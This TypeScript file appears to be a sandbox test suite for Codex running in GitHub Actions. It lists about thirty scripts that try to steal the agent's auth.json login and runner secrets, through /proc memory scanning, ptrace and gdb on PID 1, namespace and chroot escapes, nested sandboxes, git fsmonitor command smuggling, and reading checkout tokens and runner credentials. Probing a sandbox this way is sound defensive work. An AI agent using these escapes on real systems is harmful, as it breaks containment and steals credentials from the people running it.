import { type Attempt, NOWHERE, PLAIN } from './attempt.js'

/** Scans the memory of every process that can be seen for what an auth.json has in it. */
const MEMORY = `python3 - <<'END'
import glob, re
for maps in glob.glob('/proc/[0-9]*/maps'):
    try:
        memory = open(maps.replace('maps', 'mem'), 'rb')
        for line in open(maps):
            low, high, mode = re.match(r'(\\w+)-(\\w+) (\\S+)', line).groups()
            if 'r' not in mode or int(high, 16) - int(low, 16) > 1 << 24: continue
            try:
                memory.seek(int(low, 16))
                found = re.search(rb'"id_token":"ey[\\w.-]{200}', memory.read(int(high, 16) - int(low, 16)))
                if found: print(found.group().decode())
            except Exception: pass
    except Exception as error: print(error)
END`

/** Attaches to what started it, the first process that can be seen, by ptrace(2), process_vm_readv(2) and gdb. */
const PTRACE = `python3 - <<'END'
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
class Part(ctypes.Structure):
    _fields_ = [('base', ctypes.c_void_p), ('length', ctypes.c_size_t)]
for line in open('/proc/1/maps'):
    low, high = [int(number, 16) for number in line.split()[0].split('-')]
    buffer = ctypes.create_string_buffer(min(high - low, 1 << 24))
    size = libc.process_vm_readv(1, ctypes.byref(Part(ctypes.addressof(buffer), len(buffer))), 1, ctypes.byref(Part(low, len(buffer))), 1, 0)
    at = buffer.raw.find(b'"id_token":"ey')
    if at >= 0: print(buffer.raw[at:at + 500])
END
gdb -p 1 -batch -ex 'find &_start, +99999, "id_token"'`

/** Opens auth.json by a file handle of the disk, as containers were once left (open_by_handle_at(2)). */
const HANDLE = `python3 - <<'END'
import ctypes, os
libc = ctypes.CDLL(None, use_errno=True)
class Handle(ctypes.Structure):
    _fields_ = [('bytes', ctypes.c_uint), ('type', ctypes.c_int), ('data', ctypes.c_ubyte * 128)]
handle, mount = Handle(128), ctypes.c_int()
print(libc.name_to_handle_at(-100, os.environ['A'].encode(), ctypes.byref(handle), ctypes.byref(mount), 0))
fd = libc.open_by_handle_at(os.open('/', os.O_RDONLY), ctypes.byref(handle), 0)
print(os.read(fd, 2000) if fd >= 0 else os.strerror(ctypes.get_errno()))
END`

export const READ: readonly Attempt[] = [
  { id: 'path', what: 'auth.json by its path', succeeds: PLAIN, script: 'cat "$A"' },
  {
    id: 'symlink',
    what: 'auth.json by a symbolic link in the workspace',
    succeeds: ['plain'],
    script: 'ln -s "$A" link; cat link',
  },
  {
    id: 'hard-link',
    what: 'auth.json by a hard link',
    succeeds: NOWHERE,
    script: 'ln "$A" hard && cat hard; ln "$A" "$HOME/hard" && cat "$HOME/hard"',
  },
  {
    id: 'copy',
    what: 'a copy of all of CODEX_HOME',
    succeeds: PLAIN,
    script:
      'cp -r "$(dirname "$A")" copy; cat copy/auth.json; tar -c -C "$(dirname "$A")" . | tar -x -O ./auth.json',
  },
  {
    id: 'rename',
    what: 'CODEX_HOME, or a directory above it, under another name, read by a second command',
    succeeds: PLAIN,
    script: `mv "$(dirname "$A")" "$HOME/moved"; above=$(dirname "$HOME"); mv "$HOME" "$above/moved" && mkdir -p "$(dirname "$A")"`,
    second: 'cat "$A" "$HOME/moved/auth.json" "$(dirname "$HOME")"/moved/.codex/auth.json',
  },
  {
    id: 'roots',
    what: 'auth.json by the root and working directory of other processes in /proc',
    succeeds: PLAIN,
    script: 'for root in /proc/[0-9]*/root /proc/[0-9]*/cwd/../../../../../../../..; do cat "$root$A"; done',
  },
  {
    id: 'programs',
    what: 'auth.json by other programs: dd, sort, python, bash itself',
    succeeds: PLAIN,
    script: `dd if="$A"; sort "$A"; python3 -c 'import os; print(open(os.environ["A"]).read())'; bash "$A"; mapfile < "$A"; echo "$MAPFILE"`,
  },
  {
    id: 'configuration',
    what: 'auth.json as the configuration of curl, pip, ssh and npm, which repeat what they do not understand',
    succeeds: PLAIN,
    script:
      'curl -K "$A" "$WEB"; ssh -F "$A" lab.invalid; npm_config_userconfig="$A" npm config list; pip install --no-index --break-system-packages -r "$A"',
  },
  {
    id: 'file-url',
    what: 'auth.json as a `file:` address',
    succeeds: PLAIN,
    script: 'curl -s "file://$A"; git ls-remote "file://$A"',
  },
  {
    id: 'git',
    what: 'auth.json by git: a comparison, an alias, a file system monitor, an included configuration',
    succeeds: PLAIN,
    script: `git diff --no-index /dev/null "$A"; git -c alias.x='!cat "$A"' x; git -c core.fsmonitor='cat "$A" >&2; true' status; git -c include.path="$A" status`,
  },
  {
    id: 'environments',
    what: 'the environment of parents and siblings: inputs, state, the job’s token',
    succeeds: NOWHERE,
    script: "cat /proc/[0-9]*/environ 2> /dev/null | tr '\\0' '\\n' | grep -E '^(INPUT|STATE|ACTIONS|SEED)'",
  },
  { id: 'memory', what: 'the memory of every process in /proc', succeeds: NOWHERE, script: MEMORY },
  {
    id: 'descriptors',
    what: 'files that other processes have open, and those that it was left itself',
    succeeds: NOWHERE,
    script:
      'for fd in $(seq 3 30); do timeout 0.2 cat <&$fd; done 2> /dev/null; for fd in /proc/[0-9]*/fd/*; do timeout 0.2 head -c 500 "$fd"; done 2> /dev/null',
  },
  { id: 'ptrace', what: 'a debugger on Codex: ptrace, gdb', succeeds: NOWHERE, script: PTRACE },
  {
    id: 'core-dump',
    what: 'a core dump of what runs it',
    succeeds: NOWHERE,
    script: 'ulimit -c unlimited; gcore -o core 1; strings core.* | grep -F id_token',
  },
  {
    id: 'namespaces',
    what: 'namespaces of its own, in which it may mount: unmount what hides auth.json, mount the disk elsewhere, nsenter, chroot',
    succeeds: NOWHERE,
    script: `unshare -Urm sh -c 'umount "$A"; umount "$(dirname "$A")"; cat "$A"; mount --bind / /mnt; cat "/mnt$A"; mount --rbind / /mnt; cat "/mnt$A"; chroot /mnt cat "$A"'; nsenter -t 1 -a cat "$A"`,
  },
  {
    id: 'sandbox-in-sandbox',
    what: 'a sandbox of its own: bwrap, `codex sandbox`, with all of the disk in it',
    succeeds: PLAIN,
    script: `bwrap --dev-bind / / --cap-add ALL cat "$A"; bwrap --bind / / --proc /proc cat "$A"; codex sandbox -c 'default_permissions=":danger-full-access"' -- cat "$A"; codex sandbox -- cat "$A"`,
  },
  { id: 'handle', what: 'auth.json by a file handle of the disk', succeeds: NOWHERE, script: HANDLE },
  {
    id: 'sudo',
    what: 'auth.json as another user: sudo, su',
    succeeds: NOWHERE,
    script: 'sudo -n cat "$A"; su -c "cat $A"; runuser -u root -- cat "$A"',
  },
  {
    id: 'other-jobs',
    what: 'logins of other jobs of this machine',
    succeeds: PLAIN,
    script: 'cat "$HOME"/.codex-auth-action/*/auth.json',
  },
  {
    id: 'history',
    what: 'what Codex keeps beside the login: conversations, history, databases, config.toml',
    succeeds: PLAIN,
    script:
      'cd "$(dirname "$A")" && cat config.toml history.jsonl; find . -name "*.jsonl" -exec tail -n 1 {} +; strings *.sqlite | grep canary',
  },
  {
    id: 'environment',
    what: 'secrets in its own environment',
    succeeds: PLAIN,
    script: `env | grep -vE '^(MARK|A)='`,
  },
  {
    id: 'agent',
    what: 'the credentials, environment and logs of the runner’s agent',
    succeeds: PLAIN,
    script: 'cd "$AGENT" && cat .credentials .credentials_rsaparams .env _diag/*',
  },
  {
    id: 'command-files',
    what: 'what earlier steps wrote to GITHUB_ENV and GITHUB_OUTPUT',
    succeeds: PLAIN,
    script: 'cat "$RUNNER_TEMP"/_runner_file_commands/*',
  },
  {
    id: 'step-scripts',
    what: 'scripts of earlier steps in RUNNER_TEMP, in whose text secrets are',
    succeeds: PLAIN,
    script: 'cat "$RUNNER_TEMP"/*.sh',
  },
  {
    id: 'checkout',
    what: 'the token that actions/checkout keeps in RUNNER_TEMP',
    succeeds: PLAIN,
    script:
      'cat "$RUNNER_TEMP"/git-credentials-*.config; git config --file "$RUNNER_TEMP"/git-credentials-lab.config -l',
  },
  {
    id: 'temp-otherwise',
    what: 'RUNNER_TEMP by another way: a link, another process’s root, its real name, deep in it',
    succeeds: PLAIN,
    script:
      'ln -s "$RUNNER_TEMP" temp; cat temp/*.config; cat /proc/self/root"$RUNNER_TEMP"/*.config "$AGENT"/_work/./_temp/*.config; find "$AGENT/_work/_temp" -type f -exec head -c 500 {} +; mv "$RUNNER_TEMP" moved; mv "$AGENT/_work" "$AGENT/moved"; cat "$AGENT"/moved/_temp/*.config',
  },
  {
    id: 'temp-late',
    what: 'wait for what a service puts into RUNNER_TEMP while Codex runs',
    succeeds: PLAIN,
    whileRefreshed:
      'for turn in $(seq 60); do cat "$RUNNER_TEMP"/late-* && break; sleep 0.05; done 2>/dev/null | head -c 1500',
  },
  {
    id: 'refresh',
    what: 'wait in a command until the login is refreshed or another job starts, and read the new file, or the temporary one beside it',
    succeeds: PLAIN,
    whileRefreshed: `for turn in $(seq 80); do cat "$A" "$(dirname "$A")"/.*auth* "$HOME"/.codex-auth-action/*/auth.json && break; sleep 0.05; done 2>/dev/null | head -c 1500`,
  },
]
